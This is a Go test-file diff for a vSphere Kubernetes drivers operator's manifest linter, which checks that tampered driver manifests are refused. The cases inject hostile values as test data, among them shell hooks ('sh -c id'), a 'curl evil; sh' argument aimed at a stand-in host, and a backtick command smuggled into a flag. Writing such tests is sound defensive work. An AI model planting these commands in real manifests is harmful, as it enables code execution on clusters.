@@ -8,18 +8,34 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/vmware-tanzu/vsphere-kubernetes-drivers-operator/api/fault"
+	"github.com/vmware-tanzu/vsphere-kubernetes-drivers-operator/api/image"
 	"github.com/vmware-tanzu/vsphere-kubernetes-drivers-operator/matrix"
 	"github.com/vmware-tanzu/vsphere-kubernetes-drivers-operator/operator/internal/render"
+	"github.com/vmware-tanzu/vsphere-kubernetes-drivers-operator/test/upstream"
 )
 
 func TestUpstreamsManifestsPass(t *testing.T) {
 	everyRelease(t, allDrivers, func(t *testing.T, id matrix.ReleaseID) {
 		lock, manifests := contents(t, id)
-		require.NoError(t, render.Lint(lock, manifests, id))
+		require.NoError(t, render.Lint(lock, manifests, id, upstream.Listed(t, manifests)))
 	})
 }
 
-// Each case changes one thing in upstream's manifest, or adds an object to it.
+// relock makes the lock, and what the matrix lists, those of manifests that were
+// changed, as whoever signs both could.
+func relock(t *testing.T, in *render.Input) {
+	t.Helper()
+	for i := range in.Lock.Releases {
+		r := &in.Lock.Releases[i]
+		for j := range r.Manifests {
+			r.Manifests[j].Digest = image.DigestOf(in.Manifests[r.Path(r.Manifests[j])])
+		}
+	}
+	in.Matrix = upstream.Listed(t, in.Manifests)
+}
+
+// Each case changes one thing in upstream's manifest, or adds an object to it, and has
+// the matrix list just that: nothing that is listed is wider than the ceiling.
 func TestHostileManifestsAreRefused(t *testing.T) {
 	const csi, cpi, cni = "csi/3.5.1/vsphere-csi-driver.yaml", "cpi/1.33.1/vsphere-cloud-controller-manager.yaml", "cni/2.7.0/antrea.yml"
 	cases := map[string]struct{ file, from, to, want string }{
@@ -58,6 +74,13 @@ func TestHostileManifestsAreRefused(t *testing.T) {
 		"a webhook that sees Secrets":  {"csi/3.5.1/validatingwebhook.yaml", `["persistentvolumes"]`, `["secrets"]`, "sees secrets"},
 		"an API served by another":     {cni, "group: controlplane.antrea.io", "group: metrics.k8s.io", "named unlike"},
 		"an object twice":              {csi, "", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: vsphere-csi-node, namespace: vmware-system-csi}", "twice"},
+		"a hook":                       {csi, "        - name: csi-attacher\n", "        - name: csi-attacher\n          lifecycle: {postStart: {exec: {command: [sh, -c, id]}}}\n", "container csi-attacher has hooks"},
+		"a program of its own":         {csi, "        - name: csi-attacher\n", "        - name: csi-attacher\n          command: [sh, -c, id]\n", `container csi-attacher runs "sh -c id"`},
+		"arguments that are no flags":  {csi, `- "--fss-namespace=$(CSI_NAMESPACE)"`, `- "-c"` + "\n            - \"curl evil; sh\"", `the argument "curl evil; sh", which is no flag`},
+		"a flag with a command":        {csi, `- "--fss-namespace=$(CSI_NAMESPACE)"`, "- \"--hook=`id`\"", "which is no flag"},
+		"another probe":                {csi, "              - /csi-node-driver-registrar\n", "              - /bin/sh\n", `runs "/bin/sh`},
+		"another command of the CNI":   {cni, "start_ovs", "sh", `container antrea-ovs runs "sh"`},
+		"another probe of the CNI":     {cni, "timeout 10 container_liveness_probe ovs", "id", `runs "/bin/sh -c id"`},
 		"a Secret with content":        {cni, "type: kubernetes.io/service-account-token", "type: kubernetes.io/service-account-token\nstringData: {a: b}", "token of one of the driver's own accounts"},
 	}
 	for name, c := range cases {
@@ -73,13 +96,91 @@ func TestHostileManifestsAreRefused(t *testing.T) {
 				changed = strings.ReplaceAll(original, c.from, c.to)
 			}
 			in.Manifests[c.file] = []byte(changed)
-			err := render.Lint(in.Lock, in.Manifests, id)
+			relock(t, &in)
+			err := render.Lint(in.Lock, in.Manifests, id, in.Matrix)
 			require.ErrorContains(t, err, c.want)
 			require.NotEmpty(t, fault.HintOf(err))
 			_, rendered := render.Render(in)
 			require.Error(t, rendered)
 		})
 	}
+}
+
+// What is within the ceiling and not listed is refused all the same: each case is
+// within it.
+func TestWhatTheMatrixDoesNotListIsRefused(t *testing.T) {
+	const csi, cpi = "csi/3.5.1/vsphere-csi-driver.yaml", "cpi/1.33.1/vsphere-cloud-controller-manager.yaml"
+	cases := map[string]struct{ file, from, to, want string }{
+		"an argument":               {csi, `- "--fss-namespace=$(CSI_NAMESPACE)"`, `- "--fss-namespace=$(CSI_NAMESPACE)"` + "\n            - \"--plugin=/dev/evil\"", "not list: spec.template.spec.containers[vsphere-csi-controller].args"},
+		"a command of its image":    {csi, "        - name: vsphere-csi-node\n", "        - name: vsphere-csi-node\n          command: [/csi-node-driver-registrar]\n", "not list: spec.template.spec.containers[vsphere-csi-node].command"},
+		"a mount":                   {csi, "              mountPath: /registration\n", "              mountPath: /registration\n            - name: plugin-dir\n              mountPath: /etc\n", "not list: spec.template.spec.containers[node-driver-registrar].volumeMounts: {mountPath: /etc"},
+		"a variable":                {csi, "name: X_CSI_MODE", "name: X_CSI_OTHER", "not list: spec.template.spec.containers"},
+		"a known privilege unasked": {csi, "        - name: liveness-probe\n", "        - name: liveness-probe\n          securityContext: {runAsUser: 0}\n", "runAsUser: 0"},
+		"a user that is dropped":    {csi, "runAsNonRoot: true", "runAsNonRoot: false", "lacks what the matrix lists: spec.template.spec.containers"},
+		"a verb":                    {csi, `verbs: ["create", "get", "update", "watch", "list"]`, `verbs: ["create", "get", "update", "watch", "list", "delete"]`, "not list: may create, delete, get"},
+		"a resource":                {cpi, "resources:\n      - services\n", "resources:\n      - services\n      - endpoints\n", "has what the matrix does not list: may"},
+		"a port of the node":        {csi, "containerPort: 9808", "containerPort: 9809", "containerPort: 9809"},
+		"another value":             {csi, "priorityClassName: system-node-critical", "priorityClassName: other", "not list: spec.template.spec.priorityClassName: other"},
+		"an annotation":             {csi, "  name: vsphere-csi-node\n  namespace: vmware-system-csi\n", "  name: vsphere-csi-node\n  namespace: vmware-system-csi\n  annotations: {a: b}\n", "not list: metadata.annotations.a: b"},
+	}
+	for name, c := range cases {
+		t.Run(name, func(t *testing.T) {
+			driver, rest, _ := strings.Cut(c.file, "/")
+			version, _, _ := strings.Cut(rest, "/")
+			id := release(t, matrix.Driver(driver), version)
+			in := input(t, id)
+			require.Contains(t, string(in.Manifests[c.file]), c.from)
+			in.Manifests[c.file] = []byte(strings.Replace(string(in.Manifests[c.file]), c.from, c.to, 1))
+			err := render.Lint(in.Lock, in.Manifests, id, in.Matrix)
+			require.ErrorContains(t, err, c.want)
+			_, rendered := render.Render(in)
+			require.ErrorContains(t, rendered, c.want)
+			relock(t, &in)
+			require.NoError(t, render.Lint(in.Lock, in.Manifests, id, in.Matrix), "a new release needs a new list and no new program")
+		})
+	}
+}
+
+// withoutList takes a release out of what a matrix lists.
+func withoutList(doc *matrix.Document) *matrix.Document {
+	none := *doc
+	none.Needs = nil
+	return &none
+}
+
+func TestARepairNeedsNoListAndAnInstallationDoes(t *testing.T) {
+	id := release(t, matrix.CSI, "3.5.1") // with a file that no matrix lists: the operator's own does not speak of it
+	in := input(t, id)
+	in.Matrix = withoutList(in.Matrix)
+	_, err := render.Render(in)
+	require.Equal(t, fault.Refused, fault.ReasonOf(err))
+	require.Contains(t, fault.HintOf(err), "vdo-bundle matrix needs")
+	require.Error(t, render.Listed(in.Lock, id, in.Matrix))
+
+	cpi := release(t, matrix.CPI, "1.33.1")
+	in = input(t, cpi)
+	in.Manifests["cpi/1.33.1/vsphere-cloud-controller-manager.yaml"] = append(in.Manifests["cpi/1.33.1/vsphere-cloud-controller-manager.yaml"], "\n# a comment\n"...)
+	relock(t, &in)
+	in.Matrix = withoutList(in.Matrix)
+	in.Installed = map[matrix.Driver]matrix.Version{matrix.CPI: version(t, "1.33.0")}
+	_, err = render.Render(in)
+	require.Equal(t, fault.Refused, fault.ReasonOf(err), "another version runs")
+}
+
+// A bundle whose matrix lists nothing is held to the list of the matrix that the
+// operator carries, for manifests of the very bytes alone.
+func TestBundlesOfOldMatricesAreHeldToTheCarriedList(t *testing.T) {
+	const file = "cpi/1.33.1/vsphere-cloud-controller-manager.yaml"
+	id := release(t, matrix.CPI, "1.33.1")
+	in := input(t, id)
+	in.Matrix = withoutList(in.Matrix)
+	require.NoError(t, render.Listed(in.Lock, id, in.Matrix))
+	require.NoError(t, render.Lint(in.Lock, in.Manifests, id, in.Matrix))
+	in.Manifests[file] = append(in.Manifests[file], "\n# another byte\n"...)
+	for i := range in.Lock.Releases[0].Manifests {
+		in.Lock.Releases[0].Manifests[i].Digest = image.DigestOf(in.Manifests[file])
+	}
+	require.ErrorContains(t, render.Listed(in.Lock, id, in.Matrix), "is not the manifest whose needs the matrix lists")
 }
 
 func TestManifestsThatCannotBeReadAreRefused(t *testing.T) {
@@ -109,7 +210,7 @@ func TestManifestsThatCannotBeReadAreRefused(t *testing.T) {
 			id := release(t, matrix.CPI, "1.33.1")
 			lock, manifests := contents(t, id)
 			manifests[file] = []byte(text)
-			err := render.Lint(lock, manifests, id)
+			err := render.Lint(lock, manifests, id, nil)
 			require.Equal(t, fault.Corrupt, fault.ReasonOf(err), err)
 			require.ErrorContains(t, err, file)
 		})
